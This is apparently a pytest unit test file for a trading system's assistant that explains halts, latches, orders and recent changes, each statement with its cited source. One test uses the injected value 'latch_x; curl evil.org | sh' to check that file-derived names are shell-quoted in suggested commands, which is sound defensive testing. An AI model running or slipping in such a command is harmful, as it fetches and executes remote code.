"""What the answers say where a home is not well: each doubt by itself, each with what it rests on."""

import shlex
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from tests.unit.alpha.assistant.homes import NOW, said
from vanta.alpha.assistant.look import Look
from vanta.alpha.core.assistant import changed, earned, lists, safety, standing
from vanta.alpha.core.assistant.about import about
from vanta.alpha.core.assistant.answer import Answer, Fact, capped
from vanta.alpha.core.assistant.spans import Since
from vanta.alpha.core.assistant.told import told
from vanta.alpha.core.assistant.view import View
from vanta.alpha.core.earnings import Earnings
from vanta.alpha.core.node import Node
from vanta.alpha.core.sights import Doc, FarSight, LatchSight, Row
from vanta.alpha.core.verification import Finding
from vanta.common.errors import Bug
from vanta.common.events import Kind
from vanta.common.exitcodes import Check, Exit
from vanta.common.paths import (
    COLLECTION_LOG,
    OPEN_ORDERS,
    OPERATOR_COMMANDS,
    PORTFOLIO,
    QUEUE,
    TRADE_LOG,
    TRADE_SIGNALS,
    Home,
)
from vanta.common.store.ports import Record
from vanta.common.times import iso, parse_iso


@pytest.fixture(scope="module")
def view(lived: Home) -> View:
    return Look(lived, NOW).view()


def changing(
    view: View, *, docs: dict[str, Doc] | None = None, rows: tuple[Row, ...] | None = None, **facts: Any
) -> View:
    """The view with other documents, rows or facts."""
    return replace(
        view,
        docs={**view.docs, **(docs or {})},
        rows=view.rows if rows is None else rows,
        facts=replace(view.facts, **facts),
    )


def levels(answer: Answer) -> dict[str, Check | None]:
    return {fact.text: fact.level for fact in answer.facts}


def has(answer: Answer, word: str, level: Check | None = None) -> bool:
    return any(word in text and (level is None or found is level) for text, found in levels(answer).items())


def record(kind_: str, at: str = "2026-11-18T15:02:00.000Z", seq: int = 900, **payload: Any) -> Record:
    ids = payload.pop("ids", {})
    return Record(seq, at, kind_, None, ids, payload, "", "")


LATCH = LatchSight("latch_0badc0de", "loss beyond the limit", everything=True)


@pytest.mark.parametrize(
    ("change", "word", "level"),
    [
        ({"unreadable": "it is empty"}, "overlay cannot be read", Check.CRITICAL),
        ({"stops": ("full_halt on everything: drill",)}, "drill", Check.WARNING),
        ({"scoped": ("halt.full_halt on vault V_CORE",)}, "stops a part", Check.WARNING),
        ({"latches": (LATCH,)}, "latched itself", Check.CRITICAL),
        ({"executor": Doc(None)}, "cannot be told", Check.UNKNOWN),
        ({"executor": Doc(None, "is torn")}, "cannot be told", Check.UNKNOWN),
        (
            {
                "executor": Doc(
                    {
                        "broker_sync": {"paper": "differs"},
                        "latches": [],
                        "heartbeat_at": iso(NOW),
                        "dispatch": "open",
                        "as_of_seq": 1,
                    }
                )
            },
            "not reconciled: differs",
            Check.UNKNOWN,
        ),
    ],
)
def test_each_doubt_alone_keeps_it_from_being_safe(view: View, change: dict[str, Any], word: str, level: Check) -> None:
    """Named with its level and a command; why nothing leaves names the same."""
    answer = safety.safe(
        changing(view, **change), safety.Held(findings=[Finding(level=Check.OK, file="x", text="fine")])
    )
    assert answer.exit == Exit.REFUSED
    assert has(answer, word, level)
    assert answer.next


def test_a_name_from_a_file_is_quoted_in_what_is_to_be_pasted(view: View) -> None:
    """On Alpha these files are another host's words."""
    latch = replace(LATCH, latch_id="latch_x; curl evil.org | sh")
    doubtful = {PORTFOLIO: Doc({"intents": {"in1_x; curl evil.org | sh": "unknown"}})}
    answer = safety.safe(changing(view, docs=doubtful, latches=(latch,)), safety.Held())
    found = [step.command for step in answer.next if "curl" in step.command]
    assert len(found) >= 2
    assert all("curl" in next(word for word in shlex.split(one) if "x;" in word) for one in found)


def test_doubts_about_orders_files_people_and_other_hosts(view: View) -> None:
    """Outcomes that nobody knows, verification, vaults, commands, proposals: all of them are asked."""
    held = safety.Held(
        findings=[
            Finding(level=Check.CRITICAL, file=TRADE_LOG, line=7, text="is changed"),
            Finding(level=Check.UNKNOWN, file="vault.json", line=2, text="odd"),
        ],
        vaults="there is no vault.json",
    )
    given = record(
        Kind.COMMAND_GIVEN,
        seq=1,
        command_id="cmd_0123456789abcdef",
        kind="flatten",
        expires_at=iso(NOW + timedelta(minutes=5)),
    )
    over = record(
        Kind.COMMAND_GIVEN,
        seq=2,
        command_id="cmd_fedcba9876543210",
        kind="cancel",
        expires_at=iso(NOW - timedelta(minutes=5)),
    )
    found = replace(
        changing(view, docs={PORTFOLIO: Doc({"intents": {"in1_x": "unknown"}, "as_of_seq": 3})}),
        tracker_problem="is torn",
        logs={**view.logs, OPERATOR_COMMANDS: [given, over]},
    )
    answer = safety.safe(found, held)
    for word, level in (
        ("outcome of 1 intent is in doubt", Check.CRITICAL),
        ("trade_log.jsonl: is changed", Check.CRITICAL),
        ("no vault.json", Check.CRITICAL),
        ("tracker cannot be read", Check.UNKNOWN),
        ("command to flatten", Check.WARNING),
    ):
        assert has(answer, word, level), word
    assert "cancel of" not in said(answer)
    assert any("trade_log:7" in fact.cites for fact in answer.facts)
    none = safety.safe(changing(view, docs={PORTFOLIO: Doc(None)}, executor=Doc({"latches": []})), safety.Held())
    for word in (
        "Outcomes of orders cannot be told",
        "nothing here that could be verified",
        "Of no account",
    ):
        assert has(none, word, Check.UNKNOWN), word


@pytest.mark.parametrize("node", ["executor", "alpha", "markets"])
def test_on_several_hosts_alphas_controls_count_and_the_permit_is_the_executors(view: View, node: str) -> None:
    """What stops things there is said; where the permit does not lie, nothing is said about its absence."""
    far = FarSight(stops=("full_halt on everything: drill",), scoped=("x on vault V",), unreadable="half a file")
    given = changing(view, node=node, far=far if node == "executor" else None, permit=False)
    safe, why = safety.safe(given, safety.Held()), standing.halted(given)
    for text in ("full_halt on everything: drill", "half a file"):
        assert has(safe, f"Alpha's controls stop it: {text}", Check.WARNING) == (node == "executor")
        assert has(why, f"Alpha's controls stop it: {text}") == (node == "executor")
    assert has(safe, "x on vault V") == (node == "executor")
    assert has(why, "no permit to dispatch") == (node == "executor")
    assert ("is known on the executor's host alone" in said(safe)) == (node != "executor")
    assert has(standing.halted(changing(given, docs={QUEUE: Doc(None)})), "What is staged") == (node != "alpha")


def test_a_sentence_without_ground_cannot_be_made() -> None:
    """Whoever answers has to say from where."""
    for cites in ((), ("",)):
        with pytest.raises(Bug):
            Fact("It is safe.", cites)


def test_long_sentences_and_many_citations_are_cut() -> None:
    """A screen is a screen."""
    line = Fact("word " * 500, tuple(f"trade_log:{n}" for n in range(9))).line
    assert len(line) < 800
    assert "and 3 more]" in line


@pytest.mark.parametrize(
    ("change", "word"),
    [
        ({"latches": (LATCH,)}, "latched itself, which stops everything"),
        ({"latches": (replace(LATCH, everything=False),)}, "stops one vault"),
        ({"unreadable": "half a file"}, "half a file"),
        ({"stops": ("maintenance on everything",)}, "A switch stops it"),
        ({"permit": False}, "no permit to dispatch"),
        ({"scoped": ("x on vault V_CORE",)}, "stops a part: x on vault V_CORE"),
    ],
)
def test_why_nothing_leaves(view: View, change: dict[str, Any], word: str) -> None:
    """Every kind of stop in a sentence of its own, with the command that helps."""
    answer = standing.halted(changing(view, **change))
    assert word in said(answer)


def test_what_the_executor_alone_sees_is_told(view: View) -> None:
    """Or that it cannot be told; a running executor with nothing in the way is said as such."""
    odd = (
        Row(name="executor", level=Check.OK, text="runs"),
        Row(name="dispatch", level=Check.WARNING, text="the switches are open, but the executor says held: x", fix="f"),
    )
    assert "The switches are open, but the executor says held" in said(standing.halted(changing(view, rows=odd)))
    lost = (Row(name="executor", level=Check.UNKNOWN, text="it has not run here yet", fix="vanta executor run"),)
    assert "About the executor: it has not run here yet" in said(standing.halted(changing(view, rows=lost)))
    fine = (Row(name="executor", level=Check.OK, text="runs"),)
    answer = standing.halted(changing(view, rows=fine, docs={QUEUE: Doc({"intents": []})}))
    assert said(answer).startswith("Nothing stops all orders")
    assert "Nothing is staged" in said(answer)
    assert "What is staged is not known: is torn" in said(
        standing.halted(changing(view, docs={QUEUE: Doc(None, "is torn")}))
    )


def test_holds_of_a_halt_that_is_over_are_not_told(view: View) -> None:
    """They were recorded once; what still holds is."""
    intent = next(iter(view.affairs.trail.intents()))
    held = record(
        Kind.INTENT_HELD,
        codes=["halt.full_halt", "quote.stale"],
        lines=[],
        ids={"intent_id": intent, "signal_id": "cv1_x"},
    )
    view.affairs.trail.of_intent(intent).append(held)
    try:
        over = changing(view, docs={PORTFOLIO: Doc({"intents": {intent: "held", "in1_gone": "held"}})})
        assert "halt.full_halt" not in said(standing.halted(over))
        assert "1 intent waits for quote.stale" in said(standing.halted(over))
        assert "wait" in said(standing.halted(replace(over, facts=replace(over.facts, permit=False))))
        assert "halt.full_halt" in said(standing.halted(replace(over, facts=replace(over.facts, permit=False))))
    finally:
        view.affairs.trail.of_intent(intent).remove(held)


def test_with_nothing_to_tell_that_is_said(view: View) -> None:
    """No refusals, no figures, no portfolio, nothing wrong, nothing changed."""
    bare = replace(view, logs={}, docs={}, rows=(Row(name="disk", level=Check.OK, text="fine"),))
    assert "No refusal" in said(standing.refused(bare))
    assert "Nothing that I can see" in said(standing.wrong(bare))
    assert "so all of them" in said(standing.status(bare))
    assert "not known" in said(lists.holdings(bare))
    assert "Nothing changed" in said(
        changed.changed(bare, Since(NOW, "since now"), changed.Beside(keys=None, kept={}, settings_at=None))
    )
    assert earned.earned(bare, (), None).exit == Exit.FAILED
    torn = replace(bare, tracker_problem="is torn")
    assert "The tracker cannot be read" in said(standing.wrong(torn))
    assert "cannot be read" in said(lists.items(torn))
    assert "do not take it for good" in said(standing.wrong(torn))
    assert standing.money("x", "USD") == "unknown"


def test_working_orders_are_listed(view: View) -> None:
    """With what is filled of them; a worth that is not known is said to be."""
    order_ = {
        "order_id": "vqskm5b-aaaaaaaa-1",
        "side": "buy",
        "quantity": "5",
        "filled": "2",
        "instrument_id": "equity:F",
        "vault": "V_CORE",
    }
    answer = lists.orders(changing(view, docs={OPEN_ORDERS: Doc({"orders": [order_]})}))
    assert "Working: buy 5 equity:F for V_CORE, 2 filled." in said(answer)
    vault = {
        "vault_id": "V",
        "currency": "USD",
        "nav": None,
        "cash": "1",
        "positions": [{"instrument_id": "x", "quantity": "0"}],
    }
    shown = said(lists.holdings(changing(view, docs={PORTFOLIO: Doc({"vaults": [vault], "now": iso(NOW)})})))
    assert "V holds nothing" in shown
    assert "an unknown worth" in shown


def test_many_are_counted() -> None:
    """What does not fit is one line with the places of the rest."""
    facts = [Fact(f"f{n}", (f"trade_log:{n}",)) for n in range(1, 6)]
    assert [fact.text for fact in capped(facts, 3, "things")] == ["f1", "f2", "and 3 more things"]
    assert capped(facts, 5, "things") == facts


def test_of_many_intents_the_newest_are_told(view: View) -> None:
    """With where the others begin; one of which the log does not know the wish is passed over."""
    busy = max(
        (body["instrument_id"] for one in view.affairs.trail.intents() if (body := view.affairs.trail.intent(one))),
        key=lambda name: sum(
            (view.affairs.trail.intent(one) or {}).get("instrument_id") == name for one in view.affairs.trail.intents()
        ),
    )
    answer = about(view, busy, Earnings())
    assert answer.head is not None
    bare = replace(view, docs={}, affairs=replace_trail(view))
    nothing = about(bare, busy, Earnings())
    assert (nothing.exit, nothing.head is not None) == (Exit.FAILED, True)
    left = changing(
        view,
        docs={
            "vault_allocation.json": Doc(
                {"vaults": [{"vault_id": "V", "unallocated": ["equity:ZZZ: too small", "other: x"]}]}
            ),
            TRADE_SIGNALS: Doc({"now": iso(NOW), "dag_id": "dag1_x", "missing": {"sec": "stale"}, "convictions": []}),
        },
    )
    shown = said(about(left, "ZZZ", Earnings()))
    assert "V left it alone: too small" in shown
    assert "sec had no weight in it" in shown


def replace_trail(view: View) -> Any:
    from vanta.alpha.core.affairs import Affairs
    from vanta.alpha.core.trail import Trail

    return Affairs(Trail())


def test_changes_of_programs_settings_keys_latches_and_records_of_other_versions(view: View) -> None:
    """Each kind once, with what was before."""
    start = {"program": "executor 0.1.0", "mode": "paper", "settings": "a" * 64}
    log = [
        record(Kind.PROGRAM_STARTED, "2026-11-18T15:00:00.000Z", 1, **start),
        record(
            Kind.PROGRAM_STARTED,
            "2026-11-18T15:01:00.000Z",
            2,
            **{**start, "program": "executor 0.2.0", "mode": "live", "settings": "b" * 64},
        ),
        record(Kind.LATCH_SET, seq=3, latch_id="latch_00000001", code="loss", detail="x"),
        record(Kind.LATCH_RELEASED, seq=4, latch_id="latch_00000001", by="ann", reason="fine", command_id="c"),
        record(Kind.ALERT, seq=5, about="V_CORE"),
    ]
    controls = [record(Kind.LOG_RETIRED, seq=9, journal=COLLECTION_LOG, by="ann")]
    commands = [
        record(
            Kind.COMMAND_GIVEN,
            seq=1,
            command_id="cmd_1",
            kind="override",
            by="bo",
            reason="calm",
            limit="max_daily_loss",
            vault="V_CORE",
        ),
        record("tail.repaired", seq=2),
    ]
    keys = (
        b'{"at":"","by":"","reason":"first"}\n{"at":"2026-11-18T15:02:00.000Z","by":"ann","reason":"yearly"}\nrubbish\n'
    )
    given = replace(
        view,
        affairs=replace_trail(view),
        logs={TRADE_LOG: log, "control_log.jsonl": controls, OPERATOR_COMMANDS: commands},
    )
    since = Since(parse_iso("2026-11-18T15:00:30Z"), "since then")
    shown = said(changed.changed(given, since, changed.Beside(keys=keys, kept={}, settings_at=NOW)))
    for word in (
        "another version (before: executor 0.1.0)",
        "another mode (before: paper)",
        f"other settings ({'a' * 12} before",
        "latched itself, loss",
        "ann had the latch latch_00000001 released",
        "put away",
        "override max_daily_loss of V_CORE",
        "yearly",
        "saved at",
        "1 alert about limits",
    ):
        assert word in shown, word
    kept = {"a" * 64: b'{"x": 1}', "b" * 64: b'{"x": 2}'}
    assert "x from 1 to 2" in said(
        changed.changed(given, since, changed.Beside(keys=None, kept=kept, settings_at=None))
    )
    grown = changed.Beside(keys=None, kept={**kept, "b" * 64: b'{"x": 1, "y": 3}'}, settings_at=None)
    shown = said(changed.changed(given, since, grown))
    assert "other settings (1 setting that the version before did not have)" in shown
    late = replace(given, logs={TRADE_LOG: [record(Kind.FILL, iso(NOW), 50)]})
    shown = said(
        changed.changed(
            late,
            Since(NOW - timedelta(hours=9), "in the last 9 h"),
            changed.Beside(keys=None, kept={}, settings_at=None),
        )
    )
    assert "only the flow of orders" in shown
    assert "only what came after" in shown


def test_a_change_of_another_version_is_still_named(view: View) -> None:
    """A record without the fields that a change has."""
    from vanta.alpha.core.affairs import Affairs, Said
    from vanta.alpha.core.trail import Trail

    affairs = Affairs(Trail())
    affairs.changed = [Said("control_log.jsonl", record(Kind.CONTROL_CHANGED, seq=4, what="permit"))]
    shown = said(
        changed.changed(
            replace(view, affairs=affairs, logs={}),
            Since(NOW - timedelta(days=1), "since then"),
            changed.Beside(keys=None, kept={}, settings_at=None),
        )
    )
    assert "a change of permit" in shown


def test_a_tree_is_told_to_the_second_level() -> None:
    """Fences that passed are left out, a code is told once, and places and ids are what it rests on."""
    fences = tuple(Node("fence", name, f"{name} stopped it", {"code": "x"}, ()) for name in ("a", "b"))
    verdict = Node(
        "intent.held", "in1_a", "held", {}, (*fences, Node("control", "c" * 64, "the overlay", {}, ())), "trade_log:4"
    )
    tree = Node(
        "intent",
        "in1_a",
        "An intent.",
        {},
        (verdict, Node("reason", "baseline", "+0", {"bp": 0}, ()), Node("raw", "d" * 64, "raw", {}, ())),
    )
    assert [fact.text for fact in told(tree).facts] == ["held", "a stopped it", "raw"]
    assert [fact.cites for fact in told(tree).facts] == [("trade_log:4", "in1_a"), ("trade_log:4", "in1_a"), ("in1_a",)]
    alone = Node("control", "e" * 64, "a version", {}, (Node("conviction", "cv1_x", "c", {}, ()),), "trade_log:8")
    assert told(alone).head == Fact("a version", ("trade_log:8", "e" * 64))
    cycle = Node("cycle", "dag1_x", "a cycle", {}, (Node("conviction", "cv1_x", "c", {}, ()),))
    assert told(cycle).facts[0].cites == ("dag1_x",)


def test_of_more_intents_than_a_screen_holds_the_newest_are_told(view: View) -> None:
    """And where the others begin."""
    given = replace_trail(view)
    for number in range(6):
        wish = {
            "side": "buy", "instrument_id": "equity:ZZ", "vault": "V", "close": False, "notional": "5",
            "created_at": iso(NOW), "provenance": {"reasons": []},
        }  # fmt: skip
        ids = {"intent_id": f"in1_{number}", "signal_id": "cv1_x"}
        given.trail.take(record(Kind.INTENT_SEEN, seq=number + 1, ids=ids, intent=wish, intent_state="seen"))
    answer = about(replace(view, affairs=given, docs={}), "ZZ", Earnings())
    assert "6 intents about it in what was read; the newest 4 follow." in said(answer)
    assert sum("to buy equity:ZZ for 5 in V" in fact.text for fact in answer.facts) == 4
    assert "The last change" not in said(standing.halted(replace(view, affairs=given)))


def test_a_start_like_the_one_before_is_told_without_differences(view: View) -> None:
    """Another version with the same settings has only that; a place that is none of ours leaves the day."""
    start = {"program": "executor 0.1.0", "mode": "paper", "settings": "a" * 64}
    log = [
        record(Kind.PROGRAM_STARTED, iso(NOW - timedelta(seconds=9)), 1, **start),
        record(Kind.PROGRAM_STARTED, iso(NOW), 2, **start),
    ]
    shown = said(
        changed.changed(
            replace(view, affairs=replace_trail(view), logs={TRADE_LOG: log}),
            Since(NOW, "now"),
            changed.Beside(keys=None, kept={}, settings_at=None),
        )
    )
    assert "started in mode paper." in shown
